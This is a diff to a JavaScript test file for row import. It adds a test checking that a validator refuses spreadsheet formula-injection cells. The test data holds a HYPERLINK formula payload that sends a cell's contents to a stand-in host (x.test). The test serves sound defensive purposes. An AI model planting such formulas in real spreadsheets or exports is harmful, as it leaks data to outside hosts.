@@ -1,4 +1,4 @@
-import { missingColumns, rowToInput } from './request-row.js';
+import { formulaCell, missingColumns, rowToInput } from './request-row.js';
 
 describe('import rows', () => {
   it('names the columns a file lacks, whatever their case or spacing', () => {
@@ -35,5 +35,25 @@ describe('import rows', () => {
       confidential: true,
       instruments: ['UNTOC', 'TIP'],
     });
+  });
+
+  it('refuses a cell a spreadsheet would run as a formula, naming its column', () => {
+    const row = {
+      state: 'Kenya',
+      kind: 'training',
+      topics: 'cybercrime',
+      priority_area: 'B',
+      received_on: '2009-02-01',
+      channel: 'email',
+      description: 'Prosecutors',
+    };
+    expect(formulaCell(row)).toBeNull();
+    expect(formulaCell({ ...row, description: 'Prosecutors = judges, -10 % +5 @ home' })).toBeNull();
+    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
+      const problem = formulaCell({ ...row, description: `${start}HYPERLINK("http://x.test/?"&A1,"click")` });
+      expect(problem).toMatchObject({ field: 'description' });
+      expect(problem?.message).toMatch(/formula/);
+    }
+    expect(formulaCell({ ...row, topics: '@cybercrime' })).toMatchObject({ field: 'topics' });
   });
 });
